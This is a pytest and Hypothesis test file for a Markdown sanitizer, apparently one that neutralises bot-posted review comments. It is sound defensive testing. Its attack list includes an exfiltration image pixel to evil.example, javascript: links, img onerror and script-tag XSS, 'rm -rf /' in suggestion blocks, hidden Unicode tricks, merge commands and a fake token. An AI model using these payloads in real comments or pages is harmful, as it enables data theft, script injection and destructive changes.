from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.core import gate
from tests.security.rendered import active

MARKDOWN = MarkdownIt("commonmark")

ATTACKS = [
    "Ask @octocat or @acme/admins",
    "&#64;octocat &#x40;octocat &commat;octocat ＠octocat ﹫octocat",
    "![pixel](https://evil.example/?q=secret)",
    "![a][r]\n\n[r]: https://evil.example",
    "[click](https://evil.example) [x](//evil.example) [y](javascript:alert(1))",
    "<img src=x onerror=alert(1)> <a href='javascript:x'>y</a> <!-- principal:review:0 -->",
    "https://evil.example/path and www.evil.example and <https://evil.example>",
    "Fixes #12, closes acme/shop#3, resolves GH-7",
    "/merge\n/approve please\n- /close",
    "# Heading\n\nTitle\n=====\n\nOther\n-----",
    "```suggestion\nrm -rf /\n```",
    "~~~mermaid\ngraph TD\n~~~",
    "</details></sub><script>x</script>",
    "an [^1] footnote\n\n[^1]: https://evil.example",
    "`` ` `` @octocat `code @property` @octocat",
    "open `span @octocat",
    "- ```suggestion\n  rm\n  ```\n> ~~~suggestion\n> rm\n> ~~~",
    "\u202etxt.exe \u200b@octocat",
    "\\@octocat \\`@octocat` \\\\@octocat \\&#64;octocat",
    "Title\n-\n\n> Other\n> --\n\n- # Heading",
    "&#10;~~~suggestion&#10;rm&#10;~~~",
    "```[mermaid\ngraph TD\n```\n``` SUGGESTION x\nrm\n```",
    "[[![pixel](https://evil.example/?q=secret)]()",
    "\\/merge\n> /merge\ntext\n     /close",
    "[" + "long label " * 20 + "]: //evil.example\n\n[" + "long label " * 20 + "]",
    "[a\nb]: //evil.example\n\n[a b] and > [q]: //evil.example\n\n[q]",
    "_www.evil.example_ *https://evil.example* mail me@evil.example mailto:me@evil.example",
    "```\n/merge\n@dependabot merge\n  /close now\n```\n`` @dependabot rebase ``",
    "@dependabot merge\n/approve",
    "$x$ $$y$$ &#36;z$ \\$a$",
    "| a | b |\n|---|---|\n| `x | @octocat y` | https://evil.example/a|b |",
    "> a | b\n> :-|-:\n> `x | @octocat y`",
    "> " * 14 + "# Heading",
    "- " * 5 + "# Heading\n\n" + "1. " * 20 + "/merge",
    "&amp;#64;octocat &lt;img src=x&gt; &num;12 &sol;merge",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_s36_nothing_active_leaves(text):
    assert active(gate.clean(text)) == []


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "`", "``", "```", "\n", "@a", "<b>", "[", "](", ")", "\\", "&lt;", "&#60;i&#62;", " "]
        ),
        max_size=8,
    )
)
def test_s36_nothing_active_leaves_however_it_is_put_together(parts):
    assert active(gate.clean("".join(parts))) == []


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_can_be_cleaned_fenced_and_put_in_a_span(text):
    assert "\0" not in gate.clean(text)
    assert "\n" not in gate.line(text)
    blocks = [token for token in MARKDOWN.parse(gate.fence(text)) if token.level == 0]
    assert [token.type for token in blocks] == ["fence"]


def test_s37_code_stays_code_with_its_decorators():
    text = "Use `@property` and `a < b`:\n\n```ts\nconst x = <T>(y: T) => y; // @todo #1\n```\n\ndone"
    assert gate.clean(text) == text


def test_plain_words_stay_as_they_are():
    text = "The retry in `pay()` charges twice: 3 × 5 = 15, don't. E.g. a/b, 50 %, user's."
    assert gate.clean(text) == text


def test_s38_mentions_references_and_commands_become_code():
    assert gate.clean("ask @bob about #12") == "ask `@bob` about `#12`"
    assert gate.clean("/merge now") == "`/merge` now"
    assert gate.clean("see [docs](https://x.example/a)") == "see docs (`https://x.example/a`)"


def test_an_open_fence_is_closed_and_a_long_text_is_cut():
    assert gate.clean("```\nleft open") == "```\nleft open\n```"
    assert gate.clean("word " * 10, longest=12) == "word word wo …"


def test_s40_a_fence_is_longer_than_any_inside_and_its_language_is_a_word():
    assert gate.fence("a\n````\nb", "ts") == "`````ts\na\n````\nb\n`````"
    assert gate.fence("x", "ts\n@bob`").startswith("```tsbob\n")


def test_a_span_holds_back_ticks_and_is_empty_for_nothing():
    assert gate.span("a`b") == "``a`b``"
    assert gate.span("`a`") == "`` `a` ``"
    assert gate.span("  ") == ""
    assert gate.span("a\nb") == "`a b`"


def test_a_line_is_one_line_and_a_cell_keeps_to_itself():
    assert gate.line("a `b || c`\n\nd") == "a `b || c` d"
    assert gate.cell("a | `b || c`\n\nd") == "a \\| `b \\|\\| c` d"
    assert gate.line("&#10;x") == " x"
    assert gate.line("word " * 4, longest=10) == "word word …"
    assert gate.cell("word " * 4, longest=10) == "word word …"


def test_plain_text_is_shown_as_it_is_on_one_line():
    assert gate.plain("a <b> | `c`\n @bob\u200b") == "a <b> | `c` @bob\\u{200b}"
    assert gate.plain("x" * 300) == "x" * 300
    assert gate.plain("x" * 301) == "x" * 298 + " …"
    assert gate.plain("abc def", longest=6) == "abc …"
    assert gate.plain("abcd ef", longest=7) == "abcd ef"


def test_a_suggestion_holds_exactly_its_lines_and_an_empty_one_deletes():
    assert gate.suggestion("a\n  b\n") == "```suggestion\na\n  b\n\n```"
    assert gate.suggestion("") == "```suggestion\n```"
    assert gate.suggestion("````") == "`````suggestion\n````\n`````"


def test_an_escape_stays_one_and_never_undoes_ours():
    assert gate.clean(r"costs \$5 and a\<b") == r"costs \$5 and a&lt;b"
    assert gate.clean(r"C:\\$x and \*stars\*") == r"C:\\\$x and \*stars\*"
    assert gate.clean(r"a \[^1] b") == r"a \[^1] b"
    assert gate.clean("[^1]: x\n[r]: y") == "\\[^1]\\: x\n[r]\\: y"
    assert gate.clean(r"\@bob") == "`@bob`"


def test_a_hidden_character_written_as_an_entity_is_shown():
    assert gate.clean("a&#x202e;b&ZeroWidthSpace;") == "a\\u{202e}b\\u{200b}"


def test_windows_line_ends_and_nul_bytes_are_plain_text():
    assert gate.clean("a\r\nb\0c") == "a\nb\\u{0}c"


def test_a_secret_is_not_repeated_in_prose_or_code():
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
    for text in (gate.clean(f"the key {token} leaks"), gate.fence(f"-  key = '{token}'", "diff"), gate.line(token)):
        assert token not in text
